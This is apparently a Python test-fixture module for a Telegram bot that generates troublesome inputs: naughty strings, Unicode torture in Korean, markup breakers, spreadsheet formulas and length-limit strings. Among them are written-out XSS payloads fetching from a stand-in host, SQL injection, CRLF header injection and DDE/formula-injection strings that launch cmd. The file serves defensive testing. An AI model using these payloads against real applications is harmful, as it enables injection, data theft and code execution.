"""Words that make trouble: naughty strings, Unicode torture, markup, formulas, lengths at Telegram's limits. Seeded.

Sources: the Big List of Naughty Strings (tests/data/blns.json, MIT); Unicode 16 for the ranges; Telegram's limits as in
`telegram.constants`, counted in UTF-16 units as Telegram counts what people write.
"""

import base64
import json
import random
import unicodedata
from collections.abc import Iterator
from functools import cache
from itertools import product
from pathlib import Path

from telegram.constants import MessageLimit

BLNS = Path(__file__).parents[1] / "data" / "blns.json"
SEED = 20260122
MARK = "hostile.invalid"
"""In every address of the corpus: nothing that we send or show may ever link there."""

_KOREAN = "지역 청년이 머물 일자리와 통근버스를 늘려 주십시오"
_RANGES = {
    "conjoining jamo": (0x1100, 0x11FF),
    "jamo extended A": (0xA960, 0xA97C),
    "jamo extended B": (0xD7B0, 0xD7FB),
    "compatibility jamo": (0x3131, 0x318E),
    "half-width jamo": (0xFFA0, 0xFFDC),
    "half-width kana": (0xFF61, 0xFF9F),
    "full-width signs": (0xFF01, 0xFF5E),
    "combining marks": (0x0300, 0x036F),
    "combining marks for symbols": (0x20D0, 0x20F0),
    "controls": (0x00, 0x1F),
    "more controls": (0x7F, 0x9F),
    "spaces and zero widths": (0x2000, 0x200F),
    "separators and bidi": (0x2028, 0x202E),
    "invisible operators and isolates": (0x2060, 0x206F),
    "specials": (0xFFF0, 0xFFFF),
    "noncharacters": (0xFDD0, 0xFDEF),
    "variation selectors": (0xFE00, 0xFE0F),
    "tags": (0xE0001, 0xE007F),
    "more variation selectors": (0xE0100, 0xE01EF),
    "private use": (0xE000, 0xE0FF),
    "plane 16": (0x10FF00, 0x10FFFF),
    "emoji": (0x1F300, 0x1F64F),
    "regional indicators": (0x1F1E6, 0x1F1FF),
    "arabic": (0x0600, 0x06FF),
    "arabic presentation forms": (0xFE70, 0xFEFF),
    "high surrogates": (0xD800, 0xDBFF),
    "low surrogates": (0xDC00, 0xDFFF),
}
_FILLERS = "\u3164\uffa0\u115f\u1160\u17b4\u180e\u200b\u2800\u00ad\u034f\u061c\ufeff"
"""Hangul fillers and others that fill a line with nothing."""
_FAMILY = "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466"
_TAGS = [
    "b",
    "i",
    "u",
    "s",
    "a",
    "code",
    "pre",
    "span",
    "tg-spoiler",
    "tg-emoji",
    "blockquote",
    "script",
    "img",
    "iframe",
    "svg",
    "style",
    "form",
    "input",
    "base",
]
_BREAKERS = (
    *(f"<{tag} href='https://{MARK}/x' onerror=alert(1) src=//{MARK}/x>" for tag in _TAGS),
    *(f"</{tag}>" for tag in (*_TAGS, "p", "main", "title", "textarea", "blockquote")),
    "<b><i></b></i>",
    "<b" + "<" * 40,
    "&lt;b&gt;&amp;&amp;amp;&#60;&#x3c;&quot;&apos;&nbsp;&unknown;&",
    "<!-- --><!DOCTYPE x><![CDATA[<b>]]><?xml?>",
    '<a href="tg://user?id=1">x</a>',
    f"[x](https://{MARK}/x) ![](//{MARK}/x) [x](tg://user?id=1)",
    "*b* _i_ __u__ ~s~ ||sp|| `c` ```pre\n``` >q **>e||",
    r"\_*[]()~`>#+-=|{}.!\\",
    "{0} {name} {__class__} {title:이가} {{7*7}} {% raw %} ${7*7} #{7*7} %s %n %(name)s <%= 1 %>",
    f"'\"><script src=//{MARK}/x></script>",
    f"\"><img src=x onerror=fetch('//{MARK}')>",
    "';DROP TABLE notes;-- \" OR 1=1 /*",
    "javascript:alert(1)//",
    f'https://{MARK}/x?a=<b>&c="',
    "@hyeonjang_test_bot /start /next@hyeonjang_test_bot #tag $TAG",
    "<tg-emoji emoji-id='5368324170671202286'>👍</tg-emoji>",
    "]]></w:t></w:r><x/>",
    "\r\nSet-Cookie: a=b\r\n\r\n<html>",
)
_PREFIXES = (
    *("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"),
    *(
        " =",
        "\u00a0=",
        "\u3000=",
        "\u200b=",
        "\ufeff=",
        "\t=",
        "\r\n=",
        '"=',
        "'=",
        "\x00=",
        "\u200e=",
        "\u2060=",
    ),
)
_PAYLOADS = (
    "1+1",
    "cmd|'/C calc'!A0",
    f'HYPERLINK("https://{MARK}/x?"&A1,"누르세요")',
    f'WEBSERVICE("https://{MARK}")',
    f'IMPORTXML("https://{MARK}","//a")',
    'DDE("cmd";"/C calc";"x")',
    "SUM(A1:A9)*cmd|' /C notepad'!'A1'",
    "_x003D_1+1",
    '1"," =2',
)
_LIMITS = (1, 2, 20, 32, 60, 64, 120, 128, 200, 255, 256, 512, 1000, 1024, 2000, 2048, 3000, 3900, 4096)
"""Telegram's and our own: names, payloads, buttons, queries, words of a note, captions, texts."""


@cache
def naughty() -> tuple[str, ...]:
    """The Big List of Naughty Strings."""
    kept = json.loads(BLNS.read_text(encoding="ascii"))
    return tuple(base64.b64decode(text).decode() for text in kept["strings"])


def unicode_torture(count: int) -> Iterator[str]:
    """Hangul taken apart, invisible, turned round, piled up and cut in half; each range by itself and mixed into Korean."""
    dice = random.Random(SEED)
    ranges = list(_RANGES.values())
    fixed = list(_fixed())
    for number in range(count):
        if number < len(fixed):
            yield fixed[number]
        elif (place := number - len(fixed)) < len(ranges):
            yield _draw(dice, ranges[place], 24)
        else:
            yield _mixed(dice, ranges)


def _fixed() -> Iterator[str]:
    yield from _FILLERS
    yield from (sign * 40 for sign in _FILLERS)
    yield from (unicodedata.normalize(form, _KOREAN) for form in ("NFD", "NFKD"))
    yield from (f"{sign}{_KOREAN}{sign}" for sign in _FILLERS)
    yield from (f"\u202e{_KOREAN}", f"\u2067{_KOREAN}\u2066", "\u202a" * 70 + "x", "شكرا \u202d 가")
    yield from (
        _FAMILY * 30,
        "👍\U0001f3fd\ufe0f\u20e3" * 20,
        "🇰🇷" * 50,
        "\U0001f3f4\U000e0067\U000e0062\U000e007f",
    )
    yield "가" + "\u0301\u0323\u20dd" * 300
    yield from (
        "\ud800",
        "\udfff",
        "\ud83d",
        "가\udc00나\ud800",
        "\udc00\ud800",
        "\x00",
        "가\x00나",
        "\ufffe\uffff\ufdd0",
    )
    yield from (
        "\u2028",
        "\u2029",
        "\x85",
        "\x0b\x0c",
        "\x1b[31m가\x1b[0m",
        "\x08" * 9,
        "\x7f",
        "\u0085\u00a0",
    )


def _draw(dice: random.Random, span: tuple[int, int], count: int) -> str:
    return "".join(chr(dice.randint(*span)) for _ in range(count))


def _mixed(dice: random.Random, ranges: list[tuple[int, int]]) -> str:
    words = list(unicodedata.normalize(dice.choice(("NFC", "NFD")), _KOREAN))
    for span in dice.sample(ranges, dice.randint(1, 4)):
        for _ in range(dice.randint(1, 12)):
            words.insert(dice.randint(0, len(words)), chr(dice.randint(*span)))
    return "".join(words)


def markup() -> Iterator[str]:
    """What would be an element, an attribute, an entity or a template if anybody read it as one."""
    for breaker in _BREAKERS:
        yield breaker
        yield f"가상 의견 {breaker} 입니다"
        yield breaker * 3


def formulas() -> Iterator[str]:
    """What a spreadsheet would reckon."""
    yield from ("".join(pair) for pair in product(_PREFIXES, _PAYLOADS))


def lengths() -> Iterator[str]:
    """At each limit, one before and one after, in UTF-16 units: of one unit each, of two, and of markup that grows."""
    for limit in _LIMITS:
        for units in (limit - 1, limit, limit + 1):
            if 0 < units <= MessageLimit.MAX_TEXT_LENGTH + 1:
                yield "가" * units
                yield "\U0001f600" * (units // 2) + "a" * (units % 2)
                yield "<&>"[: units % 3] + "<&>" * (units // 3)


def units_of(text: str) -> int:
    """UTF-16 units, as Telegram counts."""
    return len(text.encode("utf-16-le", "surrogatepass")) // 2


def words(torture: int) -> list[tuple[str, str]]:
    """All of them with their class; `torture` is how many are generated."""
    return [
        *(("naughty", one) for one in naughty()),
        *(("unicode", one) for one in unicode_torture(torture)),
        *(("markup", one) for one in markup()),
        *(("formula", one) for one in formulas()),
        *(("length", one) for one in lengths()),
    ]
